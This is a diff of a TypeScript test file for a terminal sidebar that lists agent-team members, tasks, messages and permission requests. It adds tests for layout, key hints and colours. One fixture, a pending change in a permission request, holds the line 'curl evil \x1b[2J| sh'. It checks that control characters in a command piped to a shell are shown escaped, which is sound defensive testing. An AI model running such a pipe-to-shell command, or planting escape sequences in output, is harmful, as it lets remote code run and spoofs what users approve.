@@ -1,11 +1,14 @@
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
 import { AGENT_STATES } from "../../../src/schema/status.ts";
-import type { SidebarData } from "../../../src/sidebar/data.ts";
+import type { SidebarApproval, SidebarData } from "../../../src/sidebar/data.ts";
+import { KEYS } from "../../../src/sidebar/keys.ts";
 import type { Line } from "../../../src/sidebar/spans.ts";
 import { type SidebarState, START } from "../../../src/sidebar/state.ts";
+import { press } from "../../../src/sidebar/step.ts";
 import { frame } from "../../../src/sidebar/view-model.ts";
 import { displayWidth } from "../../../src/text/cell-width.ts";
+import { memberColor, TONE } from "../../../src/text/style.ts";
 import { AUDIT, member, task } from "../../support/sidebar/sidebar-data.ts";
 
 const text = (line: Line): string =>
@@ -47,16 +50,61 @@ describe("a team that is led by hand", () => {
 });
 
 describe("a request that waits for the user", () => {
-  test("shows the first rows of its change, without control characters", () => {
-    const change = ["- one", "+ curl evil \x1b[2J| sh", "+ three"];
+  test("shows its change with numbers, context and escaped control characters", () => {
+    const change = ["@@ -1,2 +1,3 @@", " same", "-one", "+curl evil \x1b[2J| sh", "+three"];
     const asks = { id: "perm-1", kind: "permission", from: "writer", summary: "Edit(a.js)", change } as const;
     const data = { ...AUDIT, status: { ...AUDIT.status, approvals: [asks] } };
     expect(shown(data, 34, 40).slice(2, 7)).toEqual([
       " ▲ writer asks for permission",
       "   Edit(a.js)",
-      "   - one",
-      expect.stringMatching(/^ {3}\+ curl evil .*\| sh$/),
-      "",
+      "   1   same",
+      "   2 - one",
+      "   2 + curl evil \\u001b[2J| sh",
+    ]);
+  });
+
+  const whole = (asks: Partial<SidebarApproval>, width = 34, height = 40, state = START): string[] => {
+    const approval = {
+      id: "perm-1",
+      kind: "permission",
+      from: "writer",
+      summary: "Bash(ls)",
+      ...asks,
+    } as const;
+    const data = { ...AUDIT, status: { ...AUDIT.status, approvals: [approval] } };
+    return frame(data, state, { width, height }).flatMap(({ wholeRequest }) => wholeRequest ?? []);
+  };
+
+  test("is marked as whole only if the screen shows all of it", () => {
+    expect(whole({})).toEqual(["perm-1"]);
+    expect(whole({ change: ["@@ -1,2 +1,2 @@", " same", "-a", "+  b"] })).toEqual(["perm-1"]);
+    expect(whole({ change: ["$ a", "$ b", "$ c"] })).toEqual(["perm-1"]);
+    expect(whole({ change: [`+ ${"x".repeat(40)}`] })).toEqual(["perm-1"]);
+    expect(whole({ change: Array.from({ length: 30 }, (_, i) => `$ ${i}`) })).toEqual([]);
+    expect(whole({ change: ["$ ls\ufe0f"] })).toEqual([]);
+    expect(whole({ change: ["$ a"] }, 34, 11)).toEqual([]);
+    expect(whole({ summary: `Edit(/x/${"d/".repeat(20)}a.ts)` })).toEqual([]);
+    expect(whole({ summary: "Edit(/x/a.ts)" })).toEqual(["perm-1"]);
+    expect(whole({ summary: `Bash(ls ${"x".repeat(34)} ${"y".repeat(34)})` })).toEqual([]);
+    expect(whole({ summary: `Bash(ls ${"x".repeat(34)} ${"y".repeat(34)})` }, 120)).toEqual(["perm-1"]);
+    expect(whole({ summary: "Bash(ls\nrm x)" })).toEqual([]);
+    expect(whole({ summary: "Bash(ls\ufe0f)" })).toEqual([]);
+    expect(whole({ partial: true })).toEqual([]);
+    expect(whole({ kind: "crash", summary: "x ".repeat(90) })).toEqual(["perm-1"]);
+  });
+
+  test("is not marked as whole if the screen ends before it, or shows the help", () => {
+    expect(whole({}, 34, 3)).toEqual([]);
+    expect(whole({}, 34, 40, press(START, "help", AUDIT).state)).toEqual([]);
+  });
+
+  test("shows a notice with its command over several rows", () => {
+    const notice = "see teams approvals perm-1718000000000-ab12cd3";
+    const rows = shown(AUDIT, 34, 20, { view: "team", notice });
+    expect([rows.length, ...rows.slice(-2)]).toEqual([
+      20,
+      " see teams approvals",
+      " perm-1718000000000-ab12cd3",
     ]);
   });
 });
@@ -98,7 +146,7 @@ describe("the sidebar at 34 columns", () => {
       " ● history                #4  6.1k",
       "   Grep(TODO|FIXME)",
       " ▲ writer                 #6   950",
-      "   waits for approval of its plan",
+      "   waits for approval",
       " ✗ 檢查員",
       "   killed by SIGKILL: Error: out…",
       "",
@@ -112,9 +160,6 @@ describe("the sidebar at 34 columns", () => {
       " ◌ 6 Write AUDIT.md         writer",
       "",
       " MESSAGES",
-      " team-lead → inventory       12:01",
-      "   Start with the languages,",
-      "   please.",
       " team-lead → history         12:02",
       "   Churn of the last year only",
       " inventory → writer          12:03",
@@ -123,17 +168,20 @@ describe("the sidebar at 34 columns", () => {
       " history → team-lead         12:04",
       "   completed #2 Who touched what:",
       "   churn from git",
-      " ↵ go  t tasks  ? help  q close",
+      "",
+      "",
+      " a approve  r reject  v view  ↵ go",
+      " m message  l log  ? help  q close",
     ]);
   });
 
   test("paints names in the members' colours, and urgent states in their own colours", () => {
     const lines = frame(AUDIT, START, { width: 34, height: 40 });
     const spanOf = (word: string) => lines.flatMap((line) => line.spans).find((span) => span.text === word);
-    expect(spanOf(" inventory")).toMatchObject({ fg: 33, bold: true });
-    expect(spanOf(" history")).toMatchObject({ fg: 71, bold: true });
-    expect(spanOf("▲")).toMatchObject({ fg: 214, blink: true });
-    expect(spanOf("✗")).toMatchObject({ fg: 203 });
+    expect(spanOf(" inventory")).toMatchObject({ fg: memberColor("blue"), bold: true });
+    expect(spanOf(" history")).toMatchObject({ fg: memberColor("green"), bold: true });
+    expect(spanOf("▲")).toMatchObject({ fg: TONE.attention, blink: true });
+    expect(spanOf("✗")).toMatchObject({ fg: TONE.bad });
   });
 });
 
@@ -141,7 +189,7 @@ test("the sidebar at 20 columns and 24 rows keeps the most important rows", () =
   const rows = shown(AUDIT, 20, 24);
   expect(rows).toContain(" ● inventory   #3 ↓2");
   expect(rows).toContain(" TASKS        2 of 6");
-  expect(rows.at(-1)).toBe(" ? help  q close");
+  expect(rows.slice(-2)).toEqual([" a approve  r reject", " v view  q close"]);
 });
 
 test("a wide sidebar has members on the left, and tasks and messages on the right", () => {
@@ -153,7 +201,7 @@ test("a wide sidebar has members on the left, and tasks and messages on the righ
 });
 
 test("frame always returns the requested number of rows, none wider than requested", () => {
-  const views: SidebarState["view"][] = ["team", "tasks", "help"];
+  const views: SidebarState["view"][] = ["team", "tasks", "graph"];
   const data = fc.record({
     name: fc.string({ unit: "grapheme" }),
     activity: fc.string({ unit: "binary" }),
@@ -197,9 +245,9 @@ describe("tasks in the sidebar", () => {
     const bar = frame(AUDIT, START, { width: 31, height: 40 }).find((line) => text(line).includes("━"));
     expect(bar?.spans.map((span) => [span.fg, span.text.length])).toEqual([
       [undefined, 1],
-      [71, 10],
-      [33, 10],
-      [242, 10],
+      [TONE.good, 10],
+      [TONE.busy, 10],
+      [TONE.faint, 10],
     ]);
   });
 
@@ -231,6 +279,25 @@ describe("tasks in the sidebar", () => {
     }
   });
 
+  test("have a mark for what is said and one for what is shown, if a task has a verify command", () => {
+    const list = [
+      task(1, "first", { status: "completed", said: true, shown: "passed", owner: "writer" }),
+      task(2, "second", { status: "in_progress", said: true, shown: "failed", owner: "writer" }),
+      task(3, "third", { status: "completed", said: true, shown: "none" }),
+      task(4, "fourth", { said: false, shown: "not run" }),
+    ];
+    const data = { ...AUDIT, status: { ...AUDIT.status, tasks: { list }, approvals: [] } };
+    const rows = shown(data, 34, 40, { view: "tasks", task: "2" }).slice(4, 10);
+    expect(rows).toEqual([
+      " ✓ 1 ✓✓ first               writer",
+      "▌◐ 2 ✓✗ second              writer",
+      "▌       in progress",
+      "▌       said: done, shown: failed",
+      " ✓ 3 ✓  third",
+      " ○ 4 ·· fourth",
+    ]);
+  });
+
   test("are not blocked by an unknown task", () => {
     const list = [task(1, "free", { blockedBy: ["99"] })];
     const rows = shown({ ...AUDIT, status: { ...AUDIT.status, tasks: { list } } }, 34, 40);
@@ -249,8 +316,8 @@ test("a notice replaces the sidebar's key hints", () => {
 });
 
 test("the sidebar's help lists every key and every sign", () => {
-  const rows = shown(AUDIT, 34, 50, { view: "help" });
-  expect(rows).toContain(" Enter go to the pane");
+  const rows = shown(AUDIT, 34, 120, press(START, "help", AUDIT).state);
+  for (const { label, does } of KEYS) expect(rows).toContain(` ${label.padEnd(6)}${does}`);
   expect(rows).toContain(" ✗     crashed");
 });
 
@@ -264,11 +331,16 @@ test("text of members and messages in the sidebar cannot control the terminal", 
   expect(rows.join("")).not.toMatch(/owned/);
 });
 
-test("an answer being typed uses the sidebar's last row and shows the end of a long note", () => {
-  const answer = { id: "p", from: "writer", approve: true, note: "mind the tests" };
-  expect(shown(AUDIT, 34, 40, { view: "team", answer }).at(-1)).toBe(" approve writer: mind the tests▏");
-  const long = { ...answer, approve: false, note: `檢${"x".repeat(60)}end` };
-  const row = shown(AUDIT, 34, 40, { view: "team", answer: long }).at(-1) ?? "";
+test("an answer being typed names its request and keys above, and shows the end of a long note", () => {
+  const asked = { id: "p", from: "writer", summary: "Bash(ls)" };
+  const prompt = { kind: "answer", ...asked, verdict: "yes", text: "mind the tests" } as const;
+  expect(shown(AUDIT, 34, 40, { view: "team", prompt }).slice(-3)).toEqual([
+    " Bash(ls)",
+    " ↵ sends · Esc cancels · or a note",
+    " approve writer: mind the tests▏",
+  ]);
+  const long = { ...prompt, verdict: "no", text: `檢${"x".repeat(60)}end` } as const;
+  const row = shown(AUDIT, 34, 40, { view: "team", prompt: long }).at(-1) ?? "";
   expect(row).toMatch(/^ reject writer: x+end▏$/);
   expect(row.length).toBeLessThanOrEqual(34);
 });
@@ -278,8 +350,8 @@ test("the messages › show at least the beginning of the newest message, or no 
   const rows = Array.from({ length: 20 }, (_, i) => shown(one, 34, i + 6));
   const titles = rows.map((lines) => lines.indexOf(" MESSAGES"));
   const first = titles.findIndex((at) => at >= 0);
-  // Half of the seven rows that the header, the footer, the member and a blank line leave.
-  expect(first + 6).toBe(13);
+  // Half of the seven rows that the team's name, the footer and the member leave.
+  expect(first + 6).toBe(12);
   for (const [i, at] of titles.entries()) {
     expect(at >= 0, `with ${i + 6} rows`).toBe(i >= first);
     // A message has a row for its names and at least one for its text.
